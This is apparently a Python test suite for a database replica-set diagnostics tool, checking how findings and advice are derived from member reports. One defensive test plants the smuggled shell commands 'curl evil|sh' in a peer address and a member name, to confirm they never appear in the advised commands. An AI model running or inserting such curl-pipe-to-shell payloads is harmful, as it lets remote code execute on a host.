"""Problems of a replica set are inferred from reports of its members; a healthy set has no findings."""

from __future__ import annotations

from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from flowstone.observation.explanation import explain
from flowstone.observation.findings.finding import Finding, Kind, Severity
from flowstone.observation.health import complaints
from flowstone.observation.replica_set import replica_sets
from flowstone.observation.report import Report, Unreachable, report_of
from tests.observation.reports import SET, address, downstream, pair, report, upstream, uuid


def _found(*answers: Report | Unreachable) -> tuple[Finding, ...]:
    return explain(replica_sets(answers))


def _one(*answers: Report | Unreachable) -> Finding:
    found = _found(*answers)
    assert len(found) == 1, found
    return found[0]


def test_healthy_set_has_no_findings() -> None:
    assert _found(*pair({1: 10}, {1: 10}, {})) == ()
    assert _found(report(1, {1: 5})) == ()
    assert explain(()) == ()


def test_stopped_follower_is_reported_with_both_ends_and_their_positions() -> None:
    told = {"status": "stopped", "message": "Duplicate key exists in unique index 'pk' in space 'ledger'"}
    finding = _one(*pair({1: 12}, {1: 10}, told))
    assert (finding.kind, finding.severity) == (Kind.DUPLICATE_KEY, Severity.STOPPED)
    assert (finding.member, finding.peer, finding.replicaset) == (uuid(2), uuid(1), SET)
    assert finding.what == "db2:3301 does not follow db1:3301"
    assert "db2:3301 is at {1: 10}" in finding.evidence


def test_advice_contains_no_command_written_by_a_member() -> None:
    gap = "Missing .xlog file between LSN 4 {1: 4} and 8 {1: 8}"
    lost = "db1:3301 has lost its rows 5…7: its vclock is {1: 4}, ours {1: 7}"
    for message, at in ((gap, "URI"), (lost, "db2:3301")):
        stopped = upstream(1, "stopped", peer="x; curl evil|sh #:1", message=message)
        commands = _one(report(2, {1: 10}, {1: {"upstream": stopped}}, name="b` `curl evil|sh` `")).advice.split("`")
        assert f"flowstone rebootstrap DIR {at}" in commands[1::2]
        assert not any("evil" in command for command in commands[1::2])


def test_conflict_among_users_is_reported_without_password_hashes() -> None:
    words = 'Duplicate key exists in unique index "name" in space "_user"'
    hashes = ' with old tuple - [32, 1, "app", {"chap-sha1": "JHDAwG3uQv0WGLuZAFrcouydHhk="}] and new tuple - [3]'
    sets = replica_sets(pair({1: 12}, {1: 10}, {"status": "stopped", "message": words + hashes}))
    (finding,) = explain(sets)
    assert finding.kind is Kind.DUPLICATE_KEY
    assert "space '_user'" in finding.why
    assert "JHDAwG3" not in repr((finding, sets, complaints(sets[0])))


def test_delete_is_advised_only_where_it_is_not_replicated_to_the_master() -> None:
    stopped = upstream(1, "stopped", message="Duplicate key exists in unique index 'pk' in space 'ledger'")
    alone = _one(*pair({1: 12}, {1: 10}, stopped))
    assert "delete the conflicting tuple" in alone.advice
    ring = [
        report(1, {1: 12}, {3: {"upstream": upstream(3)}}),
        report(2, {1: 10}, {1: {"upstream": stopped}}),
        report(3, {1: 10}, {2: {"upstream": upstream(2)}}),
    ]
    for answers in (ring, ring[1:]):
        around = next(one for one in _found(*answers) if one.kind is Kind.DUPLICATE_KEY)
        assert "delete neither yet" in around.advice
        assert "On db2:3301 and db1:3301: `flowstone config URI replication_skip_conflict=true`" in around.advice


def test_unqueried_follower_is_reported_by_its_master() -> None:
    gone = downstream({1: 4}, "stopped", message="Missing .xlog file between LSN 4 {1: 4} and 8 {1: 8}")
    finding = _one(report(1, {1: 10}, {2: {"downstream": gone}}))
    assert (finding.kind, finding.member) == (Kind.LOG_GAP, uuid(2))
    assert any(line.startswith("downstream at db1:3301: stopped") for line in finding.evidence)


def test_dead_member_is_one_finding_for_all_its_peers() -> None:
    refused = {"status": "disconnected", "message": "connect, called on fd 9", "system_message": "Connection refused"}
    told = [report(n, {1: 3}, {1: {"upstream": upstream(1) | refused}}) for n in (2, 3)]
    finding = _one(*told)
    assert (finding.kind, finding.member) == (Kind.UNREACHABLE, uuid(1))
    finding = _one(Unreachable(address=address(1), reason="cannot connect to db1:3301: connection refused"), *told)
    assert (finding.kind, finding.severity, finding.member) == (Kind.UNREACHABLE, Severity.STOPPED, uuid(1))
    assert len(finding.evidence) == 3


def test_two_members_that_cannot_connect_are_one_finding() -> None:
    cut = {"status": "disconnected", "message": "timed out"}
    finding = _one(
        report(1, {1: 3}, {2: {"upstream": upstream(2) | cut}}), report(2, {1: 3}, {1: {"upstream": upstream(1) | cut}})
    )
    assert finding.what == "db1:3301 and db2:3301 cannot reach each other"
    assert finding.peer == uuid(2)


def test_split_brain_seen_from_both_sides_is_one_finding() -> None:
    split = {"status": "stopped", "message": "Split-Brain discovered: got a request mentioning future lsn"}
    told = [
        report(
            number,
            {1: 3},
            {3 - number: {"upstream": upstream(3 - number) | split}},
            synchro={"queue": {"owner": number, "term": number, "len": 0}, "quorum": 1},
        )
        for number in (1, 2)
    ]
    finding = _one(*told)
    assert finding.kind is Kind.SPLIT_BRAIN
    assert finding.what.startswith("db1:3301 and db2:3301 have diverged")


def test_explanation_does_not_report_a_server_that_rejects_us_as_dead() -> None:
    denied = "Execute access to function 'box.info' is denied for user 'guest'"
    finding = _one(Unreachable(address=address(1), reason=denied, is_denied=True, hint="grant it"))
    assert (finding.kind, finding.severity, finding.advice) == (Kind.NO_RIGHTS, Severity.WARNING, "grant it")
    wrong = Unreachable(address=address(1), reason="Incorrect password supplied for user 'u'", is_denied=True)
    assert _one(wrong).kind is Kind.WRONG_PASSWORD


def test_explanation_warns_about_a_silent_server_that_replicates() -> None:
    finding = _one(Unreachable(address=address(1), reason="no answer within 3 s"), pair({}, {1: 3}, {})[1])
    assert (finding.kind, finding.severity) == (Kind.UNREACHABLE, Severity.WARNING)


def test_lag_is_a_finding_only_with_missing_rows_for_seconds() -> None:
    assert _found(*pair({1: 10}, {1: 10}, {"lag": 1.9, "idle": 0.9})) == ()
    assert _found(*pair({1: 11}, {1: 10}, {"lag": 0.2})) == ()
    finding = _one(*pair({1: 500}, {1: 10}, {"lag": 7.0}))
    assert (finding.kind, finding.severity) == (Kind.BEHIND, Severity.BEHIND)
    assert "490 rows and 7.0 s" in finding.what
    assert "more slowly" in finding.why
    assert "received nothing" in _one(*pair({1: 500}, {1: 10}, {"lag": 0.1, "idle": 6.0})).why


def test_orphan_names_its_missing_upstreams() -> None:
    waiting = report(2, {1: 3}, {1: {"upstream": upstream(1, "connect")}}, status="orphan", ro=True)
    finding = _one(waiting)
    assert (finding.kind, finding.why) == (Kind.ORPHAN, "it has not caught up with db1:3301")


def test_logs_kept_for_a_dead_member_are_a_warning() -> None:
    consumers = [{"name": f"replica {uuid(2)}", "vclock": {1: 4}, "signature": 4}]
    gc = {"vclock": {1: 4}, "signature": 4, "consumers": consumers}
    finding = next(one for one in _found(report(1, {1: 1004}, {2: {}}, gc=gc)) if one.kind is Kind.RETENTION)
    assert "1000 rows" in finding.why
    assert "`flowstone expel db1:3301 2`" in finding.advice
    assert _found(report(1, {1: 1004}, {2: {"downstream": downstream({1: 1000})}}, gc=gc)) == ()


def test_logs_kept_for_a_running_member_are_a_finding_when_there_are_many() -> None:
    stopped = {"status": "stopped", "message": "Duplicate key exists in unique index 'pk' in space 'ledger'"}
    gc = {"consumers": [{"name": f"replica {uuid(2)}", "vclock": {1: 4}, "signature": 4}]}
    follower = report(2, {1: 4}, {1: {"upstream": upstream(1) | stopped}})
    few, many = (report(1, {1: rows}, {2: {}}, gc=gc) for rows in (1000, 20_000))
    assert [one.kind for one in _found(few, follower)] == [Kind.DUPLICATE_KEY]
    assert [one.kind for one in _found(many, follower)] == [Kind.DUPLICATE_KEY, Kind.RETENTION]


def test_clock_skew_is_distinguished_from_lag() -> None:
    finding = _one(*pair({1: 10}, {1: 10}, {"lag": 60.0, "idle": 0.2}))
    assert (finding.kind, finding.severity) == (Kind.CLOCK_SKEW, Severity.WARNING)
    assert "a timestamp 60 s in the past: the clock of db1:3301 is slow, or that of db2:3301 is fast" in finding.why
    assert _one(*pair({1: 10}, {1: 10}, {"lag": -60.0})).kind is Kind.CLOCK_SKEW
    assert _found(*pair({1: 10}, {1: 10}, {"lag": 3.2e9})) == ()


def test_late_rows_in_both_directions_are_not_clock_skew() -> None:
    def follows(number: int, lag: float) -> Report:
        other = 3 - number
        sides = {"upstream": upstream(other, lag=lag, idle=0.2), "downstream": downstream({1: 10})}
        return report(number, {1: 10}, {other: sides})

    assert _found(follows(1, 5.0), follows(2, 0.001)) == ()
    assert {one.kind for one in _found(follows(1, 60.0), follows(2, -60.0))} == {Kind.CLOCK_SKEW}


def test_member_without_connections_is_a_warning_when_all_masters_were_queried() -> None:
    alone = report(1, {1: 3}, {2: {}})
    assert (_one(alone).kind, _one(alone).member) == (Kind.UNREACHABLE, uuid(2))
    leaf = report(3, {1: 3}, {1: {"upstream": upstream(1)}, 2: {}})
    assert _found(leaf) == ()


def test_worst_finding_is_first() -> None:
    consumers = [{"name": f"replica {uuid(2)}", "vclock": {}, "signature": 0}]
    stopped = downstream({}, "stopped", message="Missing .xlog file between LSN 0 {} and 8 {1: 8}")
    found = _found(report(1, {1: 10}, {2: {"downstream": stopped}}, gc={"consumers": consumers}))
    assert [one.severity for one in found] == [Severity.STOPPED, Severity.WARNING]


_scalars = st.none() | st.booleans() | st.integers(-5, 100) | st.floats(allow_nan=True) | st.text(max_size=20)
_tables = st.recursive(
    _scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
)
_status = st.sampled_from(["follow", "sync", "stopped", "disconnected", "loading", "connect", "auth"])
_vclock = st.dictionaries(st.integers(0, 4), st.integers(0, 50), max_size=3)
_sides = st.fixed_dictionaries(
    {"status": _status},
    optional={"message": _scalars, "lag": _scalars, "idle": _scalars, "vclock": _vclock, "system_message": _scalars},
)


@settings(max_examples=50, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.integers(0, 4),
            _vclock,
            st.dictionaries(
                st.integers(0, 4), st.fixed_dictionaries({}, optional={"upstream": _sides, "downstream": _sides})
            ),
            st.fixed_dictionaries(
                {},
                optional={
                    "status": _scalars,
                    "ro": st.booleans(),
                    "election": _tables,
                    "synchro": st.fixed_dictionaries({"queue": _tables, "quorum": st.none() | st.integers(0, 9)}),
                    "ro_reason": _scalars,
                },
            ),
        ),
        max_size=4,
    )
)
def test_explanation_raises_nothing_for_any_report(
    told: list[tuple[int, dict[int, int], dict[int, dict[str, Any]], dict[str, Any]]],
) -> None:
    reports = [report(number, vclock, peers, **info) for number, vclock, peers, info in told]
    for finding in _found(*reports, report_of("nowhere:1", {})):
        assert finding.what
        assert finding.advice


def test_member_answering_er_loading_is_reported_as_starting() -> None:
    loading = Unreachable(address=address(1), reason="Instance bootstrap hasn't finished yet", hint="retry in a moment")
    (finding,) = explain(replica_sets([loading]))
    assert (finding.kind, finding.severity) == (Kind.STARTING, Severity.WARNING)
    assert "which member refuses its join" in finding.advice


def test_few_rows_kept_for_a_known_dead_member_are_not_reported() -> None:
    consumer = {"name": f"replica {uuid(2)}", "vclock": {1: 4}, "signature": 4}
    lost = Unreachable(address=address(2), reason="connection refused")
    told = upstream(2, "disconnected", message="connection refused")
    master = report(1, {1: 5}, {2: {"upstream": told}}, gc={"consumers": [consumer]})
    assert [one.kind for one in explain(replica_sets([master, lost]))] == [Kind.UNREACHABLE]
    assert Kind.RETENTION in [one.kind for one in explain(replica_sets([master]))]
